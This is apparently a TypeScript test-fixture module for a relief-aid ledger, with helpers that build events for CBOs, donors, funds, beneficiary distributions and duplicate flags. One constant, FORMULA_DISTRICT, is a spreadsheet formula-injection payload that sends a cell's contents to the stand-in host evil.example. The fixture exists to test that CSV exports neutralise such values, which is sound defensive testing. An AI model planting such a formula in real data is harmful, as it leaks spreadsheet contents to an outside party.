import type { DedupRules, Funding, LedgerEvent, Service, StateCode } from "@relief-ledger/domain";

/** A valid UUID (v7 shape) numbered n, so ids sort as their numbers do. */
export const uid = (n: number): string => `00000000-0000-7000-8000-${n.toString(16).padStart(12, "0")}`;

/** The number n back from uid(n), so a test can state ids as the small numbers it chose. */
export const uidNumber = (id: string): number => Number.parseInt(id.slice(-12), 16);

/** A pseudonym numbered n: 64 hex digits that sort as their numbers do. */
export const pn = (n: number): string => n.toString(16).padStart(64, "0");

export const cbo = (cboId: string, state: StateCode = "IN-KA", district = "Bengaluru Urban"): LedgerEvent => ({
  type: "CboRegistered",
  data: { cboId, name: `CBO ${cboId}`, state, district },
});

/** A district a spreadsheet would run as a formula: every CSV the ledger writes must show it as text. */
export const FORMULA_DISTRICT = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';

export const donor = (donorId: string): LedgerEvent => ({
  type: "DonorRegistered",
  data: { donorId, name: `Donor ${donorId}`, kind: "trust" },
});

export interface FundSpec {
  fund: number;
  cboId: string;
  donorId?: string;
  amountPaise: number;
  receivedOn: string;
  restrictedTo?: Service[];
}

export const fund = ({ fund, donorId = "azim-trust", ...rest }: FundSpec): LedgerEvent => ({
  type: "FundsReceived",
  data: { fundId: uid(fund), donorId, ...rest },
});

export interface DistributionSpec {
  id: number;
  cboId: string;
  on: string;
  /** Pseudonym numbers, each an aadhaar or phone document. */
  people: number[];
  service?: Service;
  valuePaise?: number;
  funding?: Funding;
  submission?: number;
}

export const distribution = (spec: DistributionSpec): LedgerEvent => ({
  type: "DistributionRecorded",
  data: {
    distributionId: uid(spec.id),
    submissionId: uid(spec.submission ?? 900_000 + spec.id),
    cboId: spec.cboId,
    service: spec.service ?? "grocery_kit",
    beneficiaries: spec.people.map((n, i) => ({
      type: i % 2 === 0 ? "aadhaar" : "phone",
      pseudonym: pn(n),
      keyId: "pk-test",
    })),
    quantity: 1,
    valuePaise: spec.valuePaise ?? 100_000,
    funding: spec.funding ?? { kind: "auto" },
    distributedOn: spec.on,
  },
});

export const voidOf = (id: number, cboId: string): LedgerEvent => ({
  type: "DistributionVoided",
  data: { distributionId: uid(id), cboId, reason: "entered in error" },
});

export const policy = (rules: DedupRules): LedgerEvent => ({ type: "DedupPolicySet", data: { rules } });

export const resolution = (flag: number, verdict: "confirmed" | "dismissed", note = "checked"): LedgerEvent => ({
  type: "DuplicateFlagResolved",
  data: { flagId: uid(flag), verdict, note },
});

/** A CBO's note on a flag; with `noteId` as written since notes have ids, without it as before (decision 0054). */
export const flagNote = (
  flag: number,
  cboId: string,
  note = "a second kit for her sister",
  noteId?: string,
): LedgerEvent => ({
  type: "FlagNoteAdded",
  data: { flagId: uid(flag), cboId, note, ...(noteId !== undefined && { noteId }) },
});

export const byFund = (n: number): Funding => ({ kind: "fund", fundId: uid(n) });
export const byScheme = (scheme = "PDS"): Funding => ({ kind: "scheme", scheme });

/** The smallest ledger with something to project: one CBO and one kit it gave one person. */
export const oneKitLedger = (): LedgerEvent[] => [
  cbo("sangama-blr"),
  distribution({ id: 1, cboId: "sangama-blr", on: "2021-05-01", people: [1] }),
];
